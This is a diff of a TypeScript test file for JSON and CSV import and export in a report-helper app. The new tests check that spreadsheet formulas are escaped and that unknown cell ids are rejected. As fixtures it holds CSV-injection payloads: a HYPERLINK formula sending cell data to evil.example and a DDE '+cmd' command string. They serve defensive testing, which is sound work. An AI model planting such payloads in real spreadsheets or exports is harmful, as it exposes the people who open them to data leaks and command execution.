@@ -30,10 +30,22 @@ describe('JSON export', () => {
     expect(parseJson(JSON.stringify(file)).reports[0]).toMatchObject({ version: 2, body: '某县统计局' });
   });
 
-  it('reads the command line --json output with the body given by the user', () => {
+  it('reads the command line --json output; a file naming no office leaves the office empty, to be asked', () => {
     const cli = { reports: [{ source: 'r.html', year: 2022, format: 'gov2021', values: { 'apply.new.total': 8 }, findings: [] }] };
-    const r = parseJson(JSON.stringify(cli), { body: '某镇人民政府' });
-    expect(r.reports[0]).toMatchObject({ body: '某镇人民政府', year: 2022, values: { 'apply.new.total': 8 }, source: 'r.html' });
+    const r = parseJson(JSON.stringify(cli), { site: 'cms.gov.cn' });
+    expect(r.reports[0]).toMatchObject({ body: '', site: 'cms.gov.cn', year: 2022, values: { 'apply.new.total': 8 }, source: 'r.html' });
+    const saved = { app: 'nianbao-zhushou', kind: 'saved-reports', reports: [{ ...a, body: '' }] };
+    expect(parseJson(JSON.stringify(saved)).reports[0]).toMatchObject({ body: '', values: a.values });
+  });
+
+  it('keeps ids outside the format\'s catalogue out of the values, in the record\'s unread list, with a message', () => {
+    const file = { reports: [{ source: 'x', year: 2022, format: 'gov2021', values: { 'apply.new.total': 8, '=HYPERLINK("http://x","y")': 1, 'made.up': 3 } }] };
+    const r = parseJson(JSON.stringify(file));
+    expect(r.reports[0]!.values).toEqual({ 'apply.new.total': 8 });
+    expect(r.reports[0]!.unread).toEqual([{ cell: '=HYPERLINK("http://x","y")', value: '1' }, { cell: 'made.up', value: '3' }]);
+    expect(r.problems).toEqual([expect.stringMatching(/有 2 个单元格编号不属于2021年版表式.*没有导入/)]);
+    const exported = JSON.parse(toJson([{ ...a, values: { ...a.values, 'evil.cell': 1 } }]));
+    expect(parseJson(JSON.stringify(exported)).reports[0]!.values).toEqual(a.values);
   });
 
   it('explains corrupt JSON and foreign JSON', () => {
@@ -63,13 +75,39 @@ describe('CSV export', () => {
   });
 
   it('reads a short hand-made CSV (cell,value) with body and year given, and skips a non-number', () => {
-    const r = parseCsv('单元格编号,数值\napply.new.total,"1,024"\napply.carried.total,约3\n', { body: '某镇人民政府', year: 2022 });
-    expect(r.reports).toEqual([expect.objectContaining({ body: '某镇人民政府', year: 2022, format: 'gov2021', values: { 'apply.new.total': 1024 } })]);
+    const r = parseCsv('单元格编号,数值\napply.new.total,"1,024"\napply.carried.total,约3\n', { year: 2022 });
+    expect(r.reports).toEqual([expect.objectContaining({ body: '', year: 2022, format: 'gov2021', values: { 'apply.new.total': 1024 } })]);
     expect(r.problems).toEqual(['第 3 行的数值「约3」不是数字，已跳过']);
   });
 
   it('explains a CSV of another kind and a CSV without year', () => {
     expect(parseCsv('姓名,电话\n张三,123').problems[0]).toMatch(/缺少「单元格编号」和「数值」/);
-    expect(parseCsv('单元格编号,数值\napply.new.total,3', { body: '某镇' }).problems[0]).toMatch(/未导入：.*年度/);
+    expect(parseCsv('单元格编号,数值\napply.new.total,3').problems[0]).toMatch(/未导入：.*年度/);
+  });
+});
+
+describe('CSV export is inert in a spreadsheet', () => {
+  const evil: SavedReport = {
+    ...a, body: '=HYPERLINK("http://evil.example/?"&A1,"点此")', source: '+cmd|\' /C calc\'!A0', title: undefined,
+    values: { 'apply.new.total': -3, 'apply.carried.total': 2 },
+  };
+  it('every cell starting with = + - @ tab or CR gets an apostrophe (OWASP), and reads back unchanged', () => {
+    const { title: _t, ...plain } = evil;
+    const csv = toCsv([{ ...plain, site: '@SUM(1+1)*cmd', savedAt: '\t2023-01-01T00:00:00.000Z' }]);
+    const cells = splitCsv(csv)!.slice(1).flat();
+    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells).toContain(`'${evil.body}`);
+    expect(cells).toContain(`'-3`);
+    expect(cells).toContain(`'@SUM(1+1)*cmd`);
+    const back = parseCsv(csv).reports[0]!;
+    expect(back).toMatchObject({ body: evil.body, site: '@SUM(1+1)*cmd', source: evil.source, values: evil.values });
+  });
+
+  it('a CSV import carrying formulas as cell ids is not re-exported as formulas', () => {
+    const r = parseCsv('单位名称,年度,表格式样,单元格编号,数值\n某镇,2022,gov2021,"=HYPERLINK(""http://x"")",1\n某镇,2022,gov2021,apply.new.total,4\n');
+    expect(r.reports[0]!.values).toEqual({ 'apply.new.total': 4 });
+    expect(r.reports[0]!.unread).toEqual([{ cell: '=HYPERLINK("http://x")', value: '1' }]);
+    expect(r.problems[0]).toMatch(/「某镇」2022 年的数据中有 1 个单元格编号不属于/);
+    expect(toCsv(r.reports)).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 });
